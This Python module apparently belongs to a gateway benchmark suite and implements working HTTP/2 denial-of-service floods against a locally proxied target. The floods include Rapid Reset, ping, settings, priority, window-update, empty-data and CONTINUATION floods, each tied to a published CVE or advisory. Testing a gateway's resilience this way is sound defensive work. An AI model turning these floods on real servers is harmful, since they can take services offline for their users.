"""Floods of HTTP/2: what clients may send and ask nothing for (CVE-2019-9511 to 9518, CVE-2023-44487, VU#421644).

Each opens connection after connection, as the gateway ends them, until it has sent what it was told to or has had
`CONNECTIONS`.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bench.load import Target

Abuse = Callable[[Target, argparse.Namespace], Awaitable[str]]

CONNECTIONS = 200
BATCH = 500
"""Frames in one write."""


async def resets(target: Target, given: argparse.Namespace) -> str:
    """HTTP/2 requests that are taken back at once (CVE-2023-44487)."""
    sent = connections = 0
    why = ""
    while sent < given.resets and connections < 200:
        connections += 1
        async with _http2(target) as (conn, reader, writer):
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                while sent < given.resets and not writer.is_closing():
                    for _ in range(50):
                        stream = conn.get_next_available_stream_id()
                        conn.send_headers(stream, _head(target))
                        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                        sent += 1
                    writer.write(conn.data_to_send())
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.001):
                            data = await reader.read(65536)
                            if not data:
                                break
                            for event in conn.receive_data(data):
                                if isinstance(event, h2.events.ConnectionTerminated):
                                    why = f"; ended with {h2.errors.ErrorCodes(event.error_code or 0).name}"
    return f"{sent:,} resets over {connections} connections{why}"


async def many_headers(target: Target, given: argparse.Namespace) -> str:
    """HTTP/2 requests of ten thousand header fields each."""
    answered = 0
    for _ in range(20):
        async with _http2(target) as (conn, reader, writer):
            stream = conn.get_next_available_stream_id()
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                conn.send_headers(stream, [*_head(target), *((f"x-{n}", "y" * 50) for n in range(10_000))])
                writer.write(conn.data_to_send())
                await writer.drain()
                answered += await reader.read(65536) != b""
    return f"20 requests, {answered} answered"


def frames(*given_frames: Frame, opening: bool = False) -> Abuse:
    """A flood of these frames, over and over; `opening` begins with the head of a request."""

    async def flood(target: Target, given: argparse.Namespace) -> str:
        batch = b"".join(frame.serialize() for frame in given_frames) * (BATCH // len(given_frames))
        sent = connections = 0
        ends: collections.Counter[str] = collections.Counter()
        while sent < given.frames and connections < CONNECTIONS:
            connections += 1
            async with _http2(target) as (conn, reader, writer):
                if opening:
                    conn.send_headers(1, _head(target, "POST"))
                    writer.write(conn.data_to_send())
                listening = asyncio.create_task(_ending(conn, reader))
                with contextlib.suppress(OSError):
                    while sent < given.frames and not listening.done() and not writer.is_closing():
                        writer.write(batch)
                        sent += BATCH
                        await writer.drain()
                        await asyncio.sleep(0)
                ends[await listening] += 1
        return f"{sent:,} frames over {connections} connections; {_told(ends)}"

    return flood


async def continuations(target: Target, given: argparse.Namespace) -> str:
    """Heads of requests in pieces that never end, the largest that the gateway allows (VU#421644)."""
    sent = 0
    ends: collections.Counter[str] = collections.Counter()
    piece = ContinuationFrame(1, bytes(2**14)).serialize()
    for _ in range(CONNECTIONS):
        async with _http2(target) as (conn, reader, writer):
            listening = asyncio.create_task(_ending(conn, reader))
            with contextlib.suppress(OSError):
                writer.write(HeadersFrame(1, b"").serialize())
                while not listening.done() and not writer.is_closing():
                    writer.write(piece)
                    sent += 1
                    await writer.drain()
                    await asyncio.sleep(0)
            ends[await listening] += 1
    return f"{sent:,} pieces over {CONNECTIONS} connections; {_told(ends)}"


async def slow_continuations(target: Target, given: argparse.Namespace) -> str:
    """Heads of requests that begin and do not go on, on many connections at once."""
    begun = time.perf_counter()
    async with contextlib.AsyncExitStack() as stack:
        endings = []
        for _ in range(CONNECTIONS):
            conn, reader, writer = await stack.enter_async_context(_http2(target))
            writer.write(HeadersFrame(1, b"").serialize() + ContinuationFrame(1, bytes(32_000)).serialize())
            endings.append(_ending(conn, reader))
        async with asyncio.timeout(60):
            ends = collections.Counter(await asyncio.gather(*endings))
    return f"{CONNECTIONS} connections; {_told(ends)} after {time.perf_counter() - begun:.0f} s"


async def no_window(target: Target, given: argparse.Namespace) -> str:
    """Answers of 16 MiB that are asked for and not taken, on many connections at once (CVE-2019-9517)."""
    took = 0
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(50):
            conn, reader, writer = await stack.enter_async_context(_http2(target))
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            conn.send_headers(1, _head(target, path="/large"), end_stream=True)
            writer.write(conn.data_to_send())
            await writer.drain()
            took += await reader.read(65536) != b""
        await asyncio.sleep(20)
    return f"{took} answers of 16 MiB, 20 s without window"


FLOODS: dict[str, Abuse] = {
    "resets": resets,
    "many-headers": many_headers,
    "pings": frames(PingFrame(0, b"12345678")),
    "settings": frames(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})),
    "priorities": frames(PriorityFrame(1, depends_on=3), PriorityFrame(3, depends_on=1)),
    "windows": frames(WindowUpdateFrame(0, 1)),
    "empty-data": frames(DataFrame(1, b""), opening=True),
    "continuations": continuations,
    "slow-continuations": slow_continuations,
    "no-window": no_window,
}


async def _ending(conn: h2.connection.H2Connection, reader: asyncio.StreamReader) -> str:
    """How the gateway ends the connection, once it does; the client only listens."""
    with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
        while data := await reader.read(65536):
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return h2.errors.ErrorCodes(event.error_code or 0).name
    return "nothing said"


def _told(ends: collections.Counter[str]) -> str:
    return ", ".join(f"{count} ended with {name}" for name, count in ends.most_common())


@contextlib.asynccontextmanager
async def _http2(
    target: Target,
) -> AsyncIterator[tuple[h2.connection.H2Connection, asyncio.StreamReader, asyncio.StreamWriter]]:
    """An HTTP/2 connection to the origin through the proxy."""
    reader, writer = await asyncio.open_connection("127.0.0.1", target.proxy_port)
    place = f"localhost:{target.port}"
    writer.write(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
    await reader.readuntil(b"\r\n\r\n")
    context = ssl.create_default_context(cafile=target.authority)
    context.set_alpn_protocols(["h2"])
    await writer.start_tls(context, server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    try:
        yield conn, reader, writer
    finally:
        writer.transport.abort()


def _head(target: Target, method: str = "GET", path: str = "/") -> list[tuple[str, str]]:
    authority = f"localhost:{target.port}"
    return [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]
